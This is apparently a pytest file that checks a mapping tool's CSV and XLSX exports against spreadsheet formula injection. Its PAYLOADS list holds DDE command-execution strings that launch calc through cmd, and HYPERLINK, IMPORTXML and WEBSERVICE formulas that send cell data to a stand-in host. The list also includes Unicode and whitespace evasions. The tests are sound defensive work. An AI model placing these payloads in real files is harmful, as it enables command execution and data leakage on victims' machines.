"""Text that a spreadsheet would run (after OWASP, "CSV Injection"), in every text field of every format."""

from __future__ import annotations

import csv
from dataclasses import replace

import openpyxl
import pytest

from tests.exports.making import listed
from tests.exports.reading import rows_of, written
from tests.exports.tables import PLAIN_TABLES
from webmap.exports.request import ExportRequest, Subject
from webmap.exports.xlsx.book import sheet_names
from webmap.snapshot.row_columns import columns_of
from webmap.snapshot.row_writer import write_columns
from webmap.view.audience import OFFICE
from webmap.vocabulary.text import escape_formula

PAYLOADS = (
    "=1+2", "+1+2", "-1+2", "@SUM(1+9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"x\")",
    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "\t=1+2", "\r=1+2", "\n=1+2",
    "  =1+2", "\u3000=1+2", "\u200b=1+2", "\ufeff=1+2", "\x0b=1+2", "\xa0@x", "＝1+2", "＋1+2", "－1+2", "＠x", "﹦1", "−1+2",
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "@A1", "=WEBSERVICE(\"http://x.example\")",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "−")
TEXTS = ("name", "name_en", "address", "id", "key")
ASKED = ExportRequest(what=Subject.SCHOOLS, language="en")


def hostile_view(view_of):
    """A school for each payload, which stands in all of its texts, and an entry that is not on the map."""
    schools = [
        listed(f"V{number}", **dict.fromkeys(TEXTS[:-1], text), sources=(text,), notes=(text,))
        for number, text in enumerate(PAYLOADS)
    ]
    view = view_of(schools, OFFICE)
    row = next(row for row in view.snapshot.rows if row["outcome"] == "ambiguous")
    rows = [{**row, "query": text, "region": text, "file": text} for text in PAYLOADS]
    return replace(view, snapshot=replace(view.snapshot, rows=write_columns([columns_of(rows)])))


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_is_made_harmless(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["가상고등학교", "St. Mary's", "1-2", "a=b", "'quoted", "(=x)", ""])
def test_plain_text_stays_as_it_is(text):
    assert escape_formula(text) == text


def test_no_cell_of_a_csv_file_begins_a_formula(view_of, tmp_path):
    path = written(hostile_view(view_of), ASKED, "csv", tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as source:
        cells = [cell for line in csv.reader(source) for cell in line]
    assert not [cell for cell in cells if cell.strip("\u200b\ufeff\x0b \xa0\u3000").startswith(STARTS)]


def test_no_cell_of_a_workbook_is_a_formula_but_ours(view_of, tmp_path):
    path = written(
        hostile_view(view_of), ExportRequest(what=Subject.SCHOOLS, unplaced=True), "xlsx", tmp_path
    )
    book = openpyxl.load_workbook(path)
    formulas = [
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas
    assert all(formula.startswith(("=SUM(", "=IF(")) for formula in formulas)
    texts = [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert not [text for text in texts if text.strip("\u200b\ufeff\x0b \xa0\u3000").startswith(STARTS)]
    assert f"'{PAYLOADS[0]}" in texts


@pytest.mark.parametrize("suffix", PLAIN_TABLES)
def test_texts_arrive_unchanged_where_nothing_runs_them(view_of, tmp_path, suffix):
    rows = rows_of(written(hostile_view(view_of), ASKED, suffix, tmp_path), "schools")
    assert {row["name"] for row in rows} == set(PAYLOADS)
    assert {row["address"] for row in rows} == set(PAYLOADS)


def test_names_of_sheets_are_harmless_short_and_each_once():
    names = sheet_names(["=1+1", "a/b:c*?[x]", "x" * 40, "x" * 40, "", "'"])
    assert len({name.casefold() for name in names}) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)
    assert not names[0].startswith("=")
